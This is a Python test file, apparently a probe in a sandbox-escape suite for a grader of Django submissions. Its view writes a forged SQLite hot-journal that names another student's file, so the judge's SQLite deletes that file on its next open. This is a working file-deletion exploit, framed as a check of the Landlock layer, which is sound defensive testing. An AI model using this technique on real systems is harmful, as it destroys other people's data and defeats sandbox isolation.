"""Leaves a journal beside its database, which names another student's file as the one that is done with: the SQLite that
opens the database next, the judge's, deletes it.

Layer: Landlock
Without: believed database
Check: stored
Proof: files
"""

import os
import struct

import target
from django.db import connections
from django.http import HttpResponse

MAGIC = bytes.fromhex("d9d505f920a163d7")


async def view(request):
    path = connections.settings["default"]["NAME"]
    name = target.CANARY.encode()
    head = MAGIC + struct.pack(">5I", 0, 0, os.path.getsize(path) // 4096, 512, 4096)
    tail = struct.pack(">I", 0x40000000 // 4096 + 1) + name + struct.pack(">II", len(name), sum(name)) + MAGIC
    with open(path + "-journal", "wb") as journal:
        journal.write(head.ljust(512, b"\0") + tail)
    return HttpResponse("stub")
